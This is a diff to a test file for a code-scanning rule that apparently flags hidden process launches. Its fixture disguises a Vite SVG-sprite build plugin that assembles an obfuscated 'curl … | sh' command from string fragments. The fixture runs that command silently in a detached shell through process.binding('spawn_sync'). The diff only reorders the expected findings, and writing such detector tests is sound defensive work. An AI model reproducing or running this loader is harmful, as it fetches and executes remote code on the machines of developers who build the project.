@@ -55,8 +55,8 @@ ruleTest(rule, {
       file: 'build/vite-plugin-svg-sprite.js',
       code: "function ensure() {\n  const line = ['cur', 'l -s', 'f http://198.51.100.', '77:1244/cli', 'ent/9 | s', 'h'].join('');\n  const sync = process.binding('spawn_sync');\n  sync.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', `(${line}) >/dev/null 2>&1 &`], detached: true });\n}\nmodule.exports = ensure;\n",
       findings: [
-        { line: 4, severity: 'high', message: /run via sync\.spawn/ },
         { line: 2, severity: 'low', message: /not seen passed to a process launch/ },
+        { line: 4, severity: 'high', message: /run via sync\.spawn/ },
       ],
     },
     {
